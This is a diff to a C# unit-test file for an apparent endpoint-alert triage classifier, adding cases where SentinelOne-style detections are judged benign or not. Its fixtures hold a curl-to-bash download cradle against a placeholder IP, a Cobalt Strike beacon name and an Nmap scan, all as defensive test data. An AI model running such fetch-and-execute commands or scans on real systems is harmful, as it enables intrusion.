@@ -90,7 +90,7 @@ public sealed class EndpointProvenanceTests
                 processUser = @"GLOBEX\mei.zhang", createdAt = "2026-11-17T10:31:44Z", commandLineArguments = args,
             },
         };
-        var heuristic = Assess(S1("Malware", "suspicious", @"\Device\HarddiskVolume3\Program Files\Nmap\nmap.exe", "-sS -p 22,443 10.20.0.0/22"));
+        var heuristic = Assess(S1("Trojan", "suspicious", @"\Device\HarddiskVolume3\Program Files\Nmap\nmap.exe", "-sS -p 22,443 10.20.0.0/22"));
         Assert.Contains(heuristic.Evidence, e => e.Key == "rule_names_threat" && !e.Strong);
 
         var known = Assess(S1("Malware", "malicious", @"\Device\HarddiskVolume3\Program Files\Nmap\nmap.exe", "-sS -p 22,443 10.20.0.0/22"));
@@ -133,5 +133,39 @@ public sealed class EndpointProvenanceTests
 
         var plain = Assess(S1("powershell.exe -NoProfile -Command Get-Date"));
         Assert.DoesNotContain(plain.Evidence, e => e.Key is "download_cradle" or "download_and_execute");
+    }
+
+    [Fact]
+    public void SentinelOne_catch_all_malware_class_rated_only_suspicious_is_the_products_low_rating_but_a_named_threat_or_cradle_stays_open()
+    {
+        static object S1(string threatName, string confidence, string path, string args, string? indicator = null) => new
+        {
+            id = "1890000000000000003",
+            agentRealtimeInfo = new { agentComputerName = "GX-MAC-0007" },
+            threatInfo = new
+            {
+                threatName, classification = "Malware", confidenceLevel = confidence, mitigationStatus = "not_mitigated",
+                filePath = path, processUser = "mei.zhang", createdAt = "2026-11-17T10:31:44Z", commandLineArguments = args,
+            },
+            indicators = indicator is null ? Array.Empty<object>() : new object[] { new { category = indicator, description = "Behaviour the engine flagged" } },
+        };
+        // An installed app's helper doing its own work: the catch-all class on a 'suspicious' rating names no threat.
+        var helper = Assess(S1("SyncHelper", "suspicious", "/Applications/Sync.app/Contents/MacOS/SyncHelper", "SyncHelper --check-updates"));
+        Assert.Equal(Classification.Benign, helper.Classification);
+        Assert.DoesNotContain(helper.Evidence, e => e.Key == "rule_names_threat");
+        Assert.Contains(helper.Evidence, e => e.Key == "detector_severity" && e.Supports == Leaning.Benign);
+
+        // The same class at the product's 'malicious' rating is its claim of a known threat.
+        Assert.NotEqual(Classification.Benign, Assess(S1("SyncHelper", "malicious", "/Applications/Sync.app/Contents/MacOS/SyncHelper", "SyncHelper --check-updates")).Classification);
+        // Adversarial: rated only suspicious, but its threat name names a threat.
+        var beacon = Assess(S1("CobaltStrike.Beacon", "suspicious", "/Applications/Sync.app/Contents/MacOS/SyncHelper", "SyncHelper --check-updates"));
+        Assert.NotEqual(Classification.Benign, beacon.Classification);
+        Assert.Contains(beacon.Evidence, e => e.Key == "rule_names_threat");
+        // Adversarial: rated only suspicious, but an indicator names exfiltration.
+        var exfil = Assess(S1("SyncHelper", "suspicious", "/Applications/Sync.app/Contents/MacOS/SyncHelper", "SyncHelper --check-updates", "Exfiltration"));
+        Assert.NotEqual(Classification.Benign, exfil.Classification);
+        // Adversarial: rated only suspicious, but the command line is a download piped to a shell.
+        var cradle = Assess(S1("bash", "suspicious", "/bin/bash", "bash -c \"curl -s http://198.51.100.23/x.sh | bash\""));
+        Assert.NotEqual(Classification.Benign, cradle.Classification);
     }
 }
